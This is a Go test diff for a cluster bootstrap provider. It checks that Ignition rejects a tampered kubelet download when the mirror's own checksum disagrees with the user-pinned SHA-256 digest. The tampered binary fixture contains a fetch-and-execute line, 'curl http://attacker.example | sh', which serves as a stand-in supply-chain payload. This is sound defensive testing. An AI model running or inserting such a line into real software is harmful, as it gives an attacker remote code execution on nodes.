@@ -1,6 +1,11 @@
 package ignition_test
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
 	"os"
 	"path/filepath"
 	"strings"
@@ -12,7 +17,9 @@ import (
 	"github.com/stretchr/testify/require"
 	"github.com/vincent-petithory/dataurl"
 
+	cabpiv1 "github.com/cabpi/cluster-api-bootstrap-provider-ignition/apis/v1alpha1"
 	"github.com/cabpi/cluster-api-bootstrap-provider-ignition/ignition"
+	"github.com/cabpi/cluster-api-bootstrap-provider-ignition/internal/nodelayout"
 	"github.com/cabpi/cluster-api-bootstrap-provider-ignition/test/framework/ignitionapply"
 )
 
@@ -118,4 +125,60 @@ func decodeDataURL(source string) (string, error) {
 		return "", err
 	}
 	return string(u.Data), nil
+}
+
+// The real Ignition engine checks each pinned download before it writes it: the release
+// binaries a mirror serves are written when they match their pins, and a mirror that serves a
+// changed kubelet, with a .sha256 beside it that matches the change, gets nothing written and
+// the apply fails naming the hash: the digest is the user's (spec.kubernetes.digestsFrom), never
+// the mirror's (docs/adr/046).
+func TestPinnedDownloadsApply(t *testing.T) {
+	official := map[string][]byte{"kubeadm": []byte("#!/bin/sh\necho v1.34.4\n"), "kubelet": []byte("#!/bin/sh\necho Kubernetes v1.34.4\n")}
+	served := map[string][]byte{}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		name, ok := strings.CutPrefix(r.URL.Path, "/release/v1.34.4/bin/linux/amd64/")
+		data, known := served[name]
+		if !ok || !known {
+			http.NotFound(w, r)
+			return
+		}
+		_, _ = w.Write(data)
+	}))
+	t.Cleanup(srv.Close)
+	user := nodelayout.Digests{}
+	for name, data := range official {
+		sum := sha256.Sum256(data)
+		user["v1.34.4/bin/linux/amd64/"+name] = hex.EncodeToString(sum[:])
+	}
+	in := joinInput(cabpiv1.VariantFlatcar, "v1.34.4")
+	in.Kubernetes = cabpiv1.KubernetesSpec{Source: cabpiv1.KubernetesSourceBinaries, Binaries: &cabpiv1.BinariesSource{BaseURL: srv.URL + "/release"}}
+	in.KubernetesDigests = ignition.KubernetesDigests{User: user}
+	out, err := ignition.Render(in)
+	require.NoError(t, err)
+	loopback := netip.MustParsePrefix("127.0.0.0/8")
+	stage := "/opt/cabpi/kubernetes/v1.34.4/"
+
+	for name, data := range official {
+		served[name] = data
+	}
+	root := ignitionapply.ApplyWith(t, out.Data, ignitionapply.Options{RemoteWithin: loopback})
+	for name, data := range official {
+		got, err := os.ReadFile(filepath.Join(root, stage, name))
+		require.NoError(t, err, name)
+		assert.Equal(t, data, got, name)
+	}
+
+	changed := []byte("#!/bin/sh\necho Kubernetes v1.34.4; curl http://attacker.example | sh\n")
+	served["kubelet"] = changed
+	sum := sha256.Sum256(changed)
+	served["kubelet.sha256"] = []byte(hex.EncodeToString(sum[:]))
+	root = filepath.Join(t.TempDir(), "root")
+	require.NoError(t, os.MkdirAll(root, 0o755))
+	err = ignitionapply.ApplyInto(root, out.Data, ignitionapply.Options{RemoteWithin: loopback})
+	require.Error(t, err, "a changed kubelet is never written")
+	t.Logf("ignition-apply: %v", err)
+	assert.Contains(t, err.Error(), "hash verification failed", "Ignition says why")
+	assert.Contains(t, err.Error(), "but expected "+user["v1.34.4/bin/linux/amd64/kubelet"], "and names the pin")
+	_, statErr := os.Stat(filepath.Join(root, stage, "kubelet"))
+	assert.ErrorIs(t, statErr, os.ErrNotExist, "the changed kubelet is not on the node")
 }
